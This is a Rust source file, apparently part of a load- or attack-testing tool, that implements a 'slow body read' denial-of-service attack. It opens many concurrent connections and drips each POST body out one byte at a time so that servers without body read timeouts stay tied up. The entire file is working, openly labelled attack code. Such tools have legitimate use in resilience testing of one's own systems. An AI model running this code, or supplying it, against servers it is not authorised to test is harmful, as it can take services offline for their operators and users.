//! Slow body read: hold connections open by never finishing the request body.
//!
//! Each worker sends one ordinary HTTP request whose body is a `PacedReader`.
//! The headers go out at normal speed; the body trickles out one byte per
//! jittered tick. A server without a body read timeout keeps waiting for the
//! rest of it.

use super::pacing::PacedReader;
use super::pool::run_with_workers;
use super::random::{rand_index, Randn};
use super::slowloris::parse_method;
use super::{deadline_token, worker_events, Target, WorkerEvents};
use crate::error::{AttackError, Result};
use crate::telemetry::{capture_panic, EventName};
use hyper::{Body, Client, Method, Request};
use std::sync::Arc;
use std::time::Duration;
use tokio_util::io::ReaderStream;
use tokio_util::sync::CancellationToken;
use tracing::{debug, info};
use turtle_common::SlowBodyReadConfig;

#[derive(Debug, Clone)]
pub struct SlowBodyRead {
    pub target: Target,
    /// Method of the request, usually POST or PUT. Defaults to POST.
    pub method: Option<Method>,
    /// Stop feeding the body after this long. Zero keeps feeding it until
    /// the attack ends.
    pub body_read_timeout: Duration,
    randn: Randn,
}

impl SlowBodyRead {
    pub fn new(target: Target) -> Self {
        Self {
            target,
            method: None,
            body_read_timeout: Duration::ZERO,
            randn: rand_index,
        }
    }

    pub fn from_config(target: Target, config: &SlowBodyReadConfig) -> Result<Self> {
        let method = config.method.as_deref().map(parse_method).transpose()?;
        Ok(Self {
            method,
            body_read_timeout: Duration::from_millis(config.body_read_timeout_ms),
            ..Self::new(target)
        })
    }

    pub fn with_body_read_timeout(mut self, timeout: Duration) -> Self {
        self.body_read_timeout = timeout;
        self
    }

    /// Replaces the random source used for the body byte jitter.
    pub fn with_randn(mut self, randn: Randn) -> Self {
        self.randn = randn;
        self
    }

    /// Fills every unset field with its default. Idempotent.
    pub fn resolve_defaults(&mut self) {
        self.target.resolve_defaults();
        if self.method.is_none() {
            self.method = Some(Method::POST);
        }
    }

    /// Runs the attack until `cancel` fires or the target duration elapses,
    /// then waits for every worker to wind down.
    pub async fn run(&mut self, cancel: CancellationToken) -> Result<()> {
        self.resolve_defaults();
        self.target.dial_addr()?;

        info!(
            url = %self.target.url,
            connections = self.target.connections,
            duration = ?self.target.duration,
            body_read_timeout = ?self.body_read_timeout,
            "Starting slow body read attack"
        );

        let attack = Arc::new(self.clone());
        let (deadline, _guard) = deadline_token(&cancel, self.target.duration);
        run_with_workers(deadline, self.target.connections, move |cancel, worker_id| {
            let attack = Arc::clone(&attack);
            async move {
                let events = worker_events(&attack.target.events, worker_id);
                let attempt = Arc::clone(&attack).attempt(cancel, worker_id, events.clone());
                capture_panic(&events, attempt).await;
            }
        })
        .await;

        info!(url = %self.target.url, "Slow body read attack finished");
        Ok(())
    }

    async fn attempt(
        self: Arc<Self>,
        cancel: CancellationToken,
        worker_id: usize,
        events: WorkerEvents,
    ) {
        events.emit(EventName::TcpDial);

        if let Err(err) = self.send(&cancel).await {
            debug!(worker_id, error = %err, "Request ended");
            events.emit_error(EventName::WorkerError, &err);
        }

        events.emit(EventName::TcpClosed);
    }

    /// Sends one request on a fresh client, so each attempt owns exactly one
    /// connection.
    async fn send(&self, cancel: &CancellationToken) -> Result<()> {
        let body = PacedReader::start(cancel, self.body_read_timeout, self.randn);
        let request = Request::builder()
            .method(self.method.clone().unwrap_or(Method::POST))
            .uri(self.target.url.clone())
            .body(Body::wrap_stream(ReaderStream::new(body)))
            .map_err(|e| AttackError::InvalidTarget(e.to_string()))?;

        let client = Client::new();
        tokio::select! {
            biased;
            _ = cancel.cancelled() => Ok(()),
            res = client.request(request) => {
                let response = res?;
                debug!(
                    status = %response.status(),
                    "Server answered before the body was complete"
                );
                Ok(())
            }
        }
    }
}
